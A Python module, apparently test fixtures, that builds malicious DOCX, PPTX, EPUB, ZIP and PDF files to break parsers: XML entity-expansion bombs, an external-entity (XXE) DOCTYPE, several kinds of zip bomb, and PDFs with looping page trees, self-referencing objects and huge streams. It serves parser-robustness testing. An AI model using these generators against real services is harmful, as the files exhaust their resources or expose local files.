"""Documents made to break what reads them, each with the least that shows what it does."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
_SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"


def zip_of(parts: Mapping[str, bytes | str]) -> bytes:
    """Return an archive of the parts, in their order."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def relationships(*entries: str) -> str:
    """Return the part that says what a part refers to."""
    return f'<Relationships xmlns="{_PACKAGE}">{"".join(entries)}</Relationships>'


def relationship(id_: str, kind: str, target: str, mode: str = "Internal") -> str:
    """Return one reference to another part, or to what is outside."""
    type_ = f"{_OFFICE}/relationships/{kind}"
    return f'<Relationship Id="{id_}" Type="{type_}" Target="{target}" TargetMode="{mode}"/>'


def docx_parts(
    paragraph: str = "Words.", *, doctype: str = "", body: str = "", references: str = ""
) -> dict[str, bytes | str]:
    """Return the parts of a Word document of one paragraph."""
    document = (
        f'{doctype}<w:document xmlns:w="{_WORD}" xmlns:r="{_OFFICE}/relationships"><w:body><w:p>'
        f"<w:r><w:t>{paragraph}</w:t></w:r></w:p>{body}</w:body></w:document>"
    )
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": relationships(relationship("r1", "officeDocument", "word/document.xml")),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": relationships(references),
    }


def pptx_parts(words: str = "Words.", *, doctype: str = "") -> dict[str, bytes | str]:
    """Return the parts of a presentation of one slide."""
    namespaces = f'xmlns:p="{_SLIDES}" xmlns:a="{_DRAWING}" xmlns:r="{_OFFICE}/relationships"'
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": relationships(relationship("r1", "officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": (
            f'<p:presentation {namespaces}><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst>'
            "</p:presentation>"
        ),
        "ppt/_rels/presentation.xml.rels": relationships(
            relationship("r1", "slide", "slides/slide1.xml")
        ),
        "ppt/slides/slide1.xml": (
            f"{doctype}<p:sld {namespaces}><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id='2'"
            " name='T'/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r>"
            f"<a:t>{words}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
        ),
    }


def epub_parts(
    words: str = "Words.",
    *,
    doctype: str = "<!DOCTYPE html>",
    chapter: str = "chapter.xhtml",
    package_doctype: str = "",
) -> dict[str, bytes | str]:
    """Return the parts of a book of one chapter."""
    return {
        "mimetype": "application/epub+zip",
        "META-INF/container.xml": (
            '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0">'
            '<rootfiles><rootfile full-path="OPS/book.opf"'
            ' media-type="application/oebps-package+xml"/></rootfiles></container>'
        ),
        "OPS/book.opf": (
            f'{package_doctype}<package xmlns="http://www.idpf.org/2007/opf" version="3.0">'
            '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Book</dc:title>'
            f'</metadata><manifest><item id="c" href="{chapter}"'
            ' media-type="application/xhtml+xml"/></manifest>'
            '<spine><itemref idref="c"/></spine></package>'
        ),
        "OPS/chapter.xhtml": (
            f'{doctype}<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Chapter</h1>'
            f"<p>{words}</p></body></html>"
        ),
    }


def entity_bomb(root: str, *, levels: int = 12, width: int = 10) -> str:
    """Return a DOCTYPE whose entity `bomb` is a word, width to the power of levels times."""
    declared = ['<!ENTITY e0 "laugh">']
    declared += [f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, levels)]
    declared.append(f'<!ENTITY bomb "{f"&e{levels - 1};" * width}">')
    return f"<!DOCTYPE {root} [{''.join(declared)}]>"


def external_entity(root: str, address: str) -> str:
    """Return a DOCTYPE whose entity `bomb` and subset are elsewhere."""
    return (
        f'<!DOCTYPE {root} SYSTEM "{address}" [<!ENTITY bomb SYSTEM "{address}">'
        f'<!ENTITY % outside SYSTEM "{address}"> %outside;]>'
    )


def zip_bomb(parts: Mapping[str, bytes | str], name: str, megabytes: int) -> bytes:
    """Return an archive in which a part unpacks to so many megabytes of the same character."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for part, content in parts.items():
            if part != name:
                archive.writestr(part, content)
        with archive.open(name, "w", force_zip64=True) as file:
            for _ in range(megabytes):
                file.write(b" " * 1_000_000)
    return stream.getvalue()


def overlapping_zip_bomb(parts: Mapping[str, bytes | str], copies: int) -> bytes:
    """Return an archive whose directory names the same megabytes again and again."""
    kernel = b" " * 10_000_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(kernel) + packer.flush()
    checksum = zlib.crc32(kernel)
    start = zip_of(parts)
    directory_at = struct.unpack("<I", start[-6:-2])[0]
    local = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, checksum, len(packed), len(kernel), 4, 0
    )
    data = start[:directory_at] + local + b"bomb" + packed
    directory = start[directory_at:-22]
    for number in range(copies):
        name = f"word/bomb{number}.xml".encode()
        directory += struct.pack(
            "<4s6H3I5H2I",
            *(b"PK\1\2", 20, 20, 0, 8, 0, 33, checksum, len(packed), len(kernel), len(name)),
            *(0, 0, 0, 0, 0, directory_at),
        )
        directory += name
    count = len(parts) + copies
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), len(data), 0)
    return data + directory + end


def lying_zip_bomb(parts: Mapping[str, bytes | str], name: str, megabytes: int) -> bytes:
    """Return a bomb whose directory says that all of its parts are small."""
    data = bytearray(zip_bomb(parts, name, megabytes))
    size = struct.pack("<I", megabytes * 1_000_000)
    place = data.find(size)
    while place != -1:
        data[place : place + 4] = struct.pack("<I", 1_000)
        place = data.find(size, place + 4)
    return bytes(data)


def pdf_of(objects: Mapping[int, str | bytes]) -> bytes:
    """Return a PDF of numbered objects, the first of which is its catalogue."""
    data = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(data)
        body = content if isinstance(content, bytes) else content.encode("latin-1")
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table_at = len(data)
    data += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        data += b"%d 1\n%010d 00000 n \n" % (number, place)
    size = max(objects) + 1
    data += b"trailer\n<</Root 1 0 R /Size %d>>\nstartxref\n%d\n%%%%EOF" % (size, table_at)
    return bytes(data)


def pdf_stream(content: bytes, extra: str = "") -> bytes:
    """Return a packed stream."""
    packed = zlib.compress(content, 9)
    return b"<</Length %d /Filter /FlateDecode %b>>\nstream\n%b\nendstream" % (
        *(len(packed), extra.encode(), packed),
    )


FONT = "<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"


def pdf_page(content: bytes, **objects: str | bytes) -> bytes:
    """Return a PDF of one page, drawn by its content; more objects are numbered from 10 on."""
    return pdf_of(
        {
            1: "<</Type /Catalog /Pages 2 0 R>>",
            2: "<</Type /Pages /Kids [3 0 R] /Count 1>>",
            3: (
                "<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources"
                " <</Font <</F 5 0 R>> /XObject <</X 10 0 R>>>>>>"
            ),
            4: pdf_stream(content),
            5: FONT,
            **{int(name.removeprefix("n")): value for name, value in objects.items()},
        }
    )


WORDS = b"BT /F 12 Tf 50 700 Td (Words of the page.) Tj ET"


def pdf_of_many_pages(count: int) -> bytes:
    """Return a PDF that has so many pages, all drawn by the same content."""
    objects: dict[int, str | bytes] = {
        1: "<</Type /Catalog /Pages 2 0 R>>",
        3: pdf_stream(WORDS),
        5: FONT,
    }
    page = (
        "<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 3 0 R /Resources"
        " <</Font <</F 5 0 R>>>>>>"
    )
    objects |= dict.fromkeys(range(10, 10 + count), page)
    kids = " ".join(f"{number} 0 R" for number in range(10, 10 + count))
    objects[2] = f"<</Type /Pages /Kids [{kids}] /Count {count}>>"
    return pdf_of(objects)


def pdf_that_claims_pages(count: int) -> bytes:
    """Return a PDF of one page that says that it has so many."""
    return pdf_of(
        {
            1: "<</Type /Catalog /Pages 2 0 R>>",
            2: f"<</Type /Pages /Kids [{'3 0 R ' * 1000}] /Count {count}>>",
            3: "<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800]>>",
        }
    )


PDF_LOOPS: dict[str, Callable[[], bytes]] = {
    "pages that are their own parents": lambda: pdf_of(
        {1: "<</Type /Catalog /Pages 2 0 R>>", 2: "<</Type /Pages /Kids [2 0 R 2 0 R] /Count 9>>"}
    ),
    "pages that go round": lambda: pdf_of(
        {
            1: "<</Type /Catalog /Pages 2 0 R>>",
            2: "<</Type /Pages /Kids [3 0 R 3 0 R] /Count 1000>>",
            3: "<</Type /Pages /Parent 2 0 R /Kids [2 0 R 2 0 R] /Count 1000>>",
        }
    ),
    "an object that is itself": lambda: pdf_of({1: "1 0 R"}),
    "a form that draws itself": lambda: pdf_page(
        b"/X Do " + WORDS,
        n10=pdf_stream(
            b"/X Do /X Do",
            "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 10 0 R>>>>",
        ),
    ),
    "a length that is the stream's own": lambda: pdf_page(
        WORDS, n10=b"<</Length 10 0 R>>\nstream\nx\nendstream"
    ),
    "arrays within arrays": lambda: pdf_of(
        {1: "<</Type /Catalog /Pages 2 0 R>>", 2: "[" * 100_000 + "]" * 100_000}
    ),
    "a table that points back to itself": lambda: (
        b"%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\nxref\n0 1\n0000000000 65535 f \n"
        b"trailer\n<</Root 1 0 R /Size 2 /Prev 44>>\nstartxref\n44\n%%EOF"
    ),
    "states pushed without end": lambda: pdf_page(b"q " * 1_000_000 + WORDS),
    "a stream that unpacks to 100 MB": lambda: pdf_page(b" " * 100_000_000 + WORDS),
    "words without end": lambda: pdf_page(
        b"BT /F 1 Tf " + b"(words words words) Tj " * 60_000 + b"ET"
    ),
}
